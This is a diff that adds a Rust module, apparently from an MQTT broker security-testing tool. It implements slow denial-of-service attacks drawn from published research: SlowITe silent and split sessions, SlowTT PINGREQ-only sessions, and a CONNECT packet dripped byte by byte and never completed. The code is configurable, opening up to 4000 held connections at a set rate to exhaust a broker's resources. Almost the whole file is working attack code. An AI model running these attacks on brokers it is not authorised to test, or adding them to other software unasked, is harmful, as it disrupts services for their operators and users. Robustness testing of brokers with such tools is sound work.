@@ -1,0 +1,169 @@
+//! Slow denial of service: sessions or half-sent packets that cost the attacker nothing and fill the broker.
+//! `SlowITe` (silent, split: Vaccari 2020, Sensors 20:2932), `SlowTT` (ping: Vaccari 2020, Information 11:452),
+//! and a dripping CONNECT.
+
+use std::io::{self, Write};
+use std::net::TcpStream;
+use std::time::{Duration, Instant};
+
+use clap::Args;
+use serde::{Deserialize, Serialize};
+
+use super::{Meter, Naming, Place, defaults};
+use crate::mqtt::packet::{PINGREQ, Version};
+use crate::mqtt::session::{ConnectError, Session};
+use crate::random::Random;
+use crate::stop::{Pacer, Stop};
+
+/// What the sessions do once they are there.
+#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize, clap::ValueEnum)]
+#[serde(rename_all = "kebab-case")]
+pub enum Slowness {
+    /// A huge keep alive, then silence.
+    Silent,
+    /// The same, with each CONNECT in two segments and no wait for the CONNACK.
+    Split,
+    /// PINGREQ and nothing else.
+    Ping,
+    /// A CONNECT sent byte by byte, never finished.
+    Drip,
+}
+
+/// Options of the slow denial of service.
+#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
+#[serde(default, deny_unknown_fields)]
+pub struct SlowDos {
+    /// What the sessions do
+    #[arg(long, value_enum, default_value = "silent")]
+    pub slowness: Slowness,
+    /// Sessions to open
+    #[arg(long, default_value_t = 150)]
+    pub sessions: u32,
+    /// Sessions opened a second; 0 is as fast as possible
+    #[arg(long, default_value_t = 40.0)]
+    pub rate: f64,
+    /// Keep alive in seconds
+    #[arg(long, default_value_t = 65_535)]
+    pub keep_alive: u16,
+    /// Seconds between two PINGREQ of a session, or two bytes of a drip
+    #[arg(long, default_value_t = 2.0)]
+    pub every: f64,
+    /// Client identifiers
+    #[arg(long, value_enum, default_value = "random")]
+    pub naming: Naming,
+    /// Protocol version
+    #[arg(long, value_enum, default_value = "3.1.1")]
+    pub protocol: Version,
+    /// Hold the sessions until so many seconds have passed
+    #[arg(long, default_value_t = 8)]
+    pub secs: u32,
+}
+
+impl Default for SlowDos {
+    fn default() -> Self {
+        defaults()
+    }
+}
+
+/// A connection held open, with the bytes of its CONNECT that are still unsent.
+struct Held {
+    stream: TcpStream,
+    unsent: Vec<u8>,
+    due: Instant,
+}
+
+/// Most connections that one attack holds.
+const MOST_SESSIONS: u32 = 4000;
+
+impl SlowDos {
+    pub(super) fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
+        let mut random = place.random(0);
+        let mut pacer = Pacer::new(self.rate);
+        let mut held = Vec::new();
+        let most = u64::from(self.sessions.min(MOST_SESSIONS));
+        let mut opening = true;
+        // One thread does it all: it opens, and serves what is due while it waits for its next turn.
+        while !stop.is_set() {
+            if opening {
+                opening = pacer.turn(stop) && meter.take(most);
+            } else if !stop.sleep(Duration::from_millis(20)) {
+                break;
+            }
+            if opening {
+                match self.open(place, &mut random) {
+                    Ok(connection) => {
+                        Meter::count(&meter.accepted);
+                        held.push(connection);
+                    }
+                    Err(ConnectError::Refused(_)) => Meter::count(&meter.refused),
+                    Err(ConnectError::Io(_)) => Meter::count(&meter.failed),
+                }
+            }
+            self.serve(&mut held, meter);
+        }
+    }
+
+    fn open(&self, place: &Place, random: &mut Random) -> Result<Held, ConnectError> {
+        let client_id = self.naming.name(random.seed() % 100_000, random);
+        let connect = place.connect(self.protocol, &client_id, self.keep_alive);
+        let due = Instant::now() + self.pause();
+        Ok(match self.slowness {
+            Slowness::Silent | Slowness::Ping => {
+                let stream = Session::connect(&place.dial(), &connect)?.into_stream();
+                // From here on only bytes are written; a full send buffer must not hold up the others.
+                stream.set_nonblocking(true)?;
+                Held { stream, unsent: Vec::new(), due }
+            }
+            Slowness::Split => {
+                let mut stream = place.dial().open()?;
+                let bytes = connect.encode();
+                let (head, tail) = bytes.split_at(bytes.len().saturating_sub(2));
+                stream.write_all(head)?;
+                stream.write_all(tail)?;
+                Held { stream, unsent: Vec::new(), due }
+            }
+            Slowness::Drip => {
+                let mut stream = place.dial().open()?;
+                let mut unsent = connect.encode();
+                // The last byte is never sent.
+                unsent.pop();
+                stream.write_all(&unsent[..2])?;
+                unsent.drain(..2);
+                unsent.reverse();
+                Held { stream, unsent, due }
+            }
+        })
+    }
+
+    fn serve(&self, held: &mut Vec<Held>, meter: &Meter) {
+        if !matches!(self.slowness, Slowness::Ping | Slowness::Drip) {
+            return;
+        }
+        let now = Instant::now();
+        held.retain_mut(|connection| {
+            if connection.due > now {
+                return true;
+            }
+            connection.due = now + self.pause();
+            let kept = self.nudge(connection).is_ok();
+            if !kept {
+                Meter::count(&meter.failed);
+            }
+            kept
+        });
+    }
+
+    fn nudge(&self, connection: &mut Held) -> io::Result<()> {
+        if self.slowness == Slowness::Ping {
+            return connection.stream.write_all(&PINGREQ);
+        }
+        match connection.unsent.pop() {
+            Some(byte) => connection.stream.write_all(&[byte]),
+            None => Ok(()),
+        }
+    }
+
+    fn pause(&self) -> Duration {
+        Duration::from_secs_f64(self.every.clamp(0.05, 600.0))
+    }
+}
